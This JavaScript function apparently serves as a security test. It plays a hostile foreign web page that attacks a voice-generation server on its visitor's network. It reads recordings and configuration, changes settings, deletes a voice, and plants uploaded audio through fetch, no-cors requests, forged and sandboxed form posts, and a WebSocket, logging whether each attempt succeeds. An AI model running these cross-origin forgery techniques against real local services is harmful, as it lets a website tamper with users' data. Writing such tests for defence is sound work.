// What a page of a foreign site tries on a server in its visitor's network; each attempt tells how it ended.
async (server) => {
  const recording = () => new File([wav()], "planted.wav", { type: "audio/wav" });
  const json = { "Content-Type": "application/json" };

  return {
    "read the recording": await read("/audio_prompts/grandmother/audio"),
    "read the jobs": await read("/jobs"),
    "read the configuration": await read("/config"),
    "change the configuration": await write("PUT", "/config", { headers: json, body: '{"output_retention_hours": 7}' }),
    "speak": await write("POST", "/generate", { headers: json, body: '{"text": "Hi"}' }),
    "delete the voice": await write("DELETE", "/voice_mappings/grandmother"),
    "upload by fetch": await write("POST", "/audio_prompts/upload", { body: upload("fetched") }),
    // their answers are opaque: what they did is to be seen on the server
    "upload unseen": await write("POST", "/audio_prompts/upload", { mode: "no-cors", body: upload("unseen") }),
    "discover unseen": await write("POST", "/audio_prompts/discover", { mode: "no-cors" }),
    "submit a form": await submit(document, "submitted"),
    "submit a form of no origin": await submitSandboxed("sandboxed"),
    "open a WebSocket": await converse(),
  };

  async function read(path) {
    const answer = await fetch(server + path).catch(() => null);
    if (!answer?.ok) return answer ? `refused with ${answer.status}` : "refused";
    return (await answer.arrayBuffer()).byteLength > 0 ? "done" : "empty";
  }

  async function write(method, path, request = {}) {
    const answer = await fetch(server + path, { method, ...request }).catch(() => null);
    if (answer?.type === "opaque") return "sent";
    return answer?.ok ? "done" : answer ? `refused with ${answer.status}` : "refused";
  }

  function upload(id) {
    const form = new FormData();
    form.append("prompt_id", id);
    form.append("audio_file", recording());
    return form;
  }

  function submit(page, id) {
    const target = document.createElement("iframe");
    target.name = id;
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: `${server}/audio_prompts/upload`, enctype: "multipart/form-data", target: id });
    form.innerHTML = `<input name="prompt_id" value="${id}"><input type="file" name="audio_file">`;
    const files = new DataTransfer();
    files.items.add(recording());
    form.lastElementChild.files = files.files;
    document.body.append(target, form);
    return new Promise((resolve) => {
      target.onload = () => resolve("sent");
      form.submit();
    });
  }

  function submitSandboxed(id) {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    frame.srcdoc = `<script>
      onmessage = async ({ data }) => {
        const form = new FormData();
        form.append("prompt_id", "${id}");
        form.append("audio_file", data);
        await fetch("${server}/audio_prompts/upload", { method: "POST", mode: "no-cors", body: form }).catch(() => null);
        parent.postMessage("sent", "*");
      };
    </script>`;
    return new Promise((resolve) => {
      addEventListener("message", () => resolve("sent"), { once: true });
      frame.onload = () => frame.contentWindow.postMessage(recording(), "*");
      document.body.append(frame);
    });
  }

  function converse() {
    return new Promise((resolve) => {
      const socket = new WebSocket(`${server.replace("http", "ws")}/ws/generate`);
      socket.onerror = () => resolve("refused");
      socket.onopen = () => socket.send(JSON.stringify({ type: "generate", data: { text: "Hi" } }));
      socket.onmessage = () => resolve("done");
    });
  }

  // a second of a tone, 16-bit mono at 8 kHz
  function wav() {
    const count = 8000, file = new DataView(new ArrayBuffer(44 + 2 * count));
    const write = (at, text) => [...text].forEach((letter, index) => file.setUint8(at + index, letter.charCodeAt(0)));
    write(0, "RIFF"), write(8, "WAVEfmt "), write(36, "data");
    file.setUint32(4, 36 + 2 * count, true), file.setUint32(16, 16, true), file.setUint16(20, 1, true);
    file.setUint16(22, 1, true), file.setUint32(24, 8000, true), file.setUint32(28, 16000, true);
    file.setUint16(32, 2, true), file.setUint16(34, 16, true), file.setUint32(40, 2 * count, true);
    for (let i = 0; i < count; i++) file.setInt16(44 + 2 * i, 9000 * Math.sin(i / 3), true);
    return file.buffer;
  }
}
